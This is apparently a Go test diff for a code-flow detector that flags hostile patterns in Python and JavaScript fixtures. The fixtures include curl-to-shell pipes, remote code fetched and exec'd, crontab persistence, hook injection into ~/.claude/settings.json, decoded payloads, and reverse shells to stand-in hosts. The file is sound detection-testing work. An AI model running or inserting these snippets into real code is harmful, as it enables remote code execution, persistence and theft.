@@ -24,7 +24,7 @@ func follow(t *testing.T, files string, uses ...chain.Use) []string {
 		texts = append(texts, chain.Text{File: f.Name, Source: f.Data, Language: language, Start: document.Position{Line: 1, Column: 1}})
 	}
 	var found []string
-	for _, c := range chain.Follow(texts, uses, func(file, why string) { found = append(found, "cut "+file+": "+why) }) {
+	for _, c := range chain.Follow(texts, uses, chain.Options{Cut: func(file, why string) { found = append(found, "cut "+file+": "+why) }}).Chains {
 		part := ""
 		if c.Source.Part {
 			part = " part"
@@ -37,6 +37,41 @@ func follow(t *testing.T, files string, uses ...chain.Use) []string {
 	}
 	slices.Sort(found)
 	return found
+}
+
+// What is run is told as a shell would be given it, and what is written with the place
+// that lasts.
+func TestTold(t *testing.T) {
+	text := `
+import json, os, subprocess
+HOST = "https://a.example.com"
+subprocess.run(["bash", "-c", "curl -s " + HOST + " | sh"])
+os.system(f"curl {HOST}/{os.uname()[1]} | sh")
+subprocess.run(["crontab", "-"], input="@daily " + HOST)
+place = os.path.expanduser("~/.claude/settings.json")
+with open(place, "w") as f:
+    json.dump({"hooks": {"Stop": [{"command": "x"}]}}, f)
+with open("notes.txt", "w") as f:
+    f.write("a")
+`
+	found := chain.Follow(
+		[]chain.Text{{File: "a.py", Source: []byte(text), Language: chain.Python, Start: document.Position{Line: 1, Column: 1}}}, nil,
+		chain.Options{Lasting: func(place string) bool { return strings.HasPrefix(place, "~/.claude") }, Cut: func(string, string) {}},
+	)
+	var got []string
+	for _, r := range found.Runs {
+		got = append(got, r.Text+" < "+r.Input)
+	}
+	for _, w := range found.Writes {
+		got = append(got, w.Place+" = "+w.Text)
+	}
+	want := []string{
+		"bash -c 'curl -s https://a.example.com | sh' < ", "curl https://a.example.com/${value} | sh < ", "crontab - < @daily https://a.example.com",
+		"~/.claude/settings.json = \"hooks\": \"Stop\": \"command\": \"x\"\n \n\n",
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("got\n%q\nwant\n%q", got, want)
+	}
 }
 
 func TestFollow(t *testing.T) {
@@ -148,7 +183,7 @@ requests.put("https://collect.example.com/up", data=buf.getvalue())
 -- a.py --
 import requests
 exec(requests.get("https://a.example.com/x.py").text)
-`, "network a.example.com -> evaluate  "},
+`, "network a.example.com -> evaluate code "},
 		"javascript, whole environment": {`
 -- a.js --
 const https = require('https');
@@ -193,7 +228,7 @@ execSync(` + "`curl -X POST -d '${encodeURIComponent(key)}' https://collect.exam
 		"javascript, fetched and run": {`
 -- a.js --
 fetch('https://a.example.com/x.js').then(r => r.text()).then(code => eval(code));
-`, "network a.example.com -> evaluate  "},
+`, "network a.example.com -> evaluate code "},
 		"javascript, promises": {`
 -- a.js --
 const fs = require('fs/promises');
@@ -207,6 +242,127 @@ def f(:
 key = os.environ["ACME_TOKEN"]
 requests.post("https://collect.example.com", data={"k": key)
 `, "variable ACME_TOKEN -> send body collect.example.com"},
+
+		"fetched into a file and run": {`
+-- a.py --
+import os, subprocess, urllib.request
+def helper():
+    path = os.path.join("/tmp", "joiner")
+    urllib.request.urlretrieve("https://a.example.com/joiner", path)
+    os.chmod(path, 0o755)
+    return path
+subprocess.call(["sudo", helper(), "a.pdf"])
+`, "network a.example.com -> run file "},
+		"given to an interpreter": {`
+-- a.py --
+import subprocess, sys, tempfile, requests
+fd, name = tempfile.mkstemp()
+with open(name, "wb") as f:
+    f.write(requests.get("https://a.example.com/x").content)
+subprocess.Popen([sys.executable, "-u", name])
+`, "network a.example.com -> run file "},
+		"fetched by a command": {`
+-- a.py --
+import subprocess
+subprocess.run(["curl", "-so", "/tmp/x.sh", "https://a.example.com/x"])
+subprocess.run("bash /tmp/x.sh", shell=True)
+`, "network a.example.com -> run file "},
+		"a shell is told": {`
+-- a.py --
+import subprocess, requests
+subprocess.run(["bash", "-c", requests.get("https://a.example.com/x").text])
+`, "network a.example.com -> run command "},
+		"a name that is put together": {`
+-- a.py --
+import builtins, requests
+getattr(builtins, "ex" + "ec")(requests.get("https://a.example.com/x").text)
+`, "network a.example.com -> evaluate code "},
+		"a file of the package, decoded": {`
+-- a.py --
+import base64, pathlib, zlib
+raw = (pathlib.Path(__file__).parent / "shapes.dat").read_bytes()
+exec(zlib.decompress(base64.b64decode(raw)))
+`, "coded …/shapes.dat -> evaluate code "},
+		"a command that is decoded": {`
+-- a.py --
+import base64, os
+os.system(base64.b64decode("ZWNobyBoZWxsbyB3b3JsZA==").decode())
+`, "coded a text of the program -> run command "},
+		"a connection becomes the input of a shell": {`
+-- a.py --
+import os, socket, subprocess
+def attach(s):
+    for n in (0, 1, 2):
+        os.dup2(s.fileno(), n)
+    subprocess.call(["/bin/sh", "-i"])
+s = socket.socket()
+s.connect(("203.0.113.9", 4443))
+attach(s)
+`, "connection a connection to 203.0.113.9 -> attach  "},
+		"what a connection says is run": {`
+-- a.py --
+import socket, subprocess
+s = socket.create_connection(("hub.example.com", 4443))
+while True:
+    s.send(subprocess.getoutput(s.recv(1024).decode()).encode())
+`, "connection a connection to hub.example.com -> run command "},
+		"javascript, a shell is joined to a connection": {`
+-- a.js --
+const net = require("net"), cp = require("child_process");
+const c = net.connect(4443, "203.0.113.9", () => {
+  const sh = cp.spawn("/bin/sh", []);
+  c.pipe(sh.stdin);
+  sh.stdout.pipe(c);
+});
+`, "connection a connection to 203.0.113.9 -> attach  \nconnection a connection to 203.0.113.9 -> attach stdin "},
+		"javascript, messages are run": {`
+-- a.mjs --
+import WebSocket from "ws";
+import { execSync } from "node:child_process";
+const socket = new WebSocket("wss://a.example.com/s");
+socket.onmessage = (event) => execSync(JSON.parse(event.data).run);
+`, "connection a connection to a.example.com part -> run command "},
+		"javascript, a module that is fetched": {`
+-- a.js --
+const fs = require("fs"), path = require("path"), os = require("os");
+const file = path.join(os.tmpdir(), "core.js");
+fetch("https://a.example.com/core.js").then(async (r) => {
+  fs.writeFileSync(file, await r.text());
+  require(file).start();
+});
+`, "network a.example.com -> evaluate file "},
+
+		"what is fetched is an argument": {`
+-- a.py --
+import subprocess, requests
+one = requests.get("https://a.example.com/films/1").json()
+with open(one["name"] + ".mp4", "wb") as f:
+    f.write(requests.get(one["url"]).content)
+words = ["ffmpeg", "-i"]
+words += [one["name"] + ".mp4"]
+subprocess.run(words)
+subprocess.run(["open", one["name"] + ".mp4"])
+subprocess.run(f"ffmpeg -i {one['name']}.mp4", shell=True)
+`, ""},
+		"what is decoded is a picture": {`
+-- a.py --
+import base64, subprocess
+with open("logo.png", "wb") as f:
+    f.write(base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"))
+subprocess.run(["xdg-open", "logo.png"])
+`, ""},
+		"what is fetched is what a formula is given": {`
+-- a.py --
+import requests
+print(eval("a + b", {"__builtins__": {}}, requests.get("https://a.example.com/numbers").json()))
+`, ""},
+		"a connection beside a command": {`
+-- a.py --
+import socket, subprocess, sys
+s = socket.create_connection((sys.argv[1], 22))
+print(s.recv(100))
+subprocess.run(["bash", "-c", "ls"])
+`, ""},
 
 		"an address of the settings": {`
 -- a.py --
